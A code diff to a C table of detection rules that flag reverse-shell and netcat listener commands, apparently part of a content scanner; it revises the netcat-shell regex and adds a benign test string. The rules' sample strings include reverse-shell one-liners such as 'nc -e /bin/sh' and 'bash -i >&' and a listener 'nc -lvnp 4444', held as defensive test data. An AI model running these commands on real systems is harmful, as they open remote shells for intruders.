@@ -11,9 +11,9 @@ static const symbi_skill_rule rules[] = {
      "\\b(?:ba|z|k|da)?sh\\s+-i\\b\\s*(?:.*\\s)?(?:\\d*>&|\\d*<&|\\d?<>|&>|\\|)",
      SYMBI_SKILL_CRITICAL, { "bash -i >& /tmp/p 0>&1", "sh -i 5<> /tmp/s 0<&5" }, { "bash -i", "ssh -i key host" }, 0 },
     { "netcat-shell", "reverse-shell", "Netcat hands out a shell",
-     "\\b(?:nc|ncat|netcat)(?:\\.\\w+)?\\b.*\\s(?:-\\w*[ec]|--(?:sh-|lua-)?exec)\\s*=?\\s*[\"\\x27]?(?:/\\S*/)?(?:(?:ba|z|k|da)?sh\\b|cmd|powershell|pwsh|py"
-     "thon|perl)",
-     SYMBI_SKILL_CRITICAL, { "nc -e /bin/sh 1.2.3.4 9", "ncat 1.2.3.4 9 --exec /bin/bash", "nc -nv 1.2.3.4 9 -e/bin/sh" }, { "nc -z host 22" }, 0 },
+     "\\b(?:nc|ncat|netcat)(?:\\.exe)?[ \\t].*\\B(?:-\\w*[ec]|--(?:sh-|lua-)?exec)\\s*=?\\s*[\"\\x27]?(?:/\\S*/)?(?:(?:ba|z|k|da)?sh\\b|cmd|powershell|pwsh|"
+     "python|perl)",
+     SYMBI_SKILL_CRITICAL, { "nc -e /bin/sh 1.2.3.4 9", "ncat 1.2.3.4 9 --exec /bin/bash", "nc -nv 1.2.3.4 9 -e/bin/sh" }, { "nc -z host 22", "sync the cmd-exec bash" }, 0 },
     { "netcat-listen", "reverse-shell", "Netcat waits for connections",
      "\\b(?:nc|ncat|netcat)\\s+(?:-\\w+\\s+(?:\\d+\\s+)?)*-\\w*l\\w*(?:\\s|$)",
      SYMBI_SKILL_HIGH, { "nc -lvnp 4444", "ncat -k -l 9" }, { "nc -z host 22", "rsync -l a b" }, 0 },
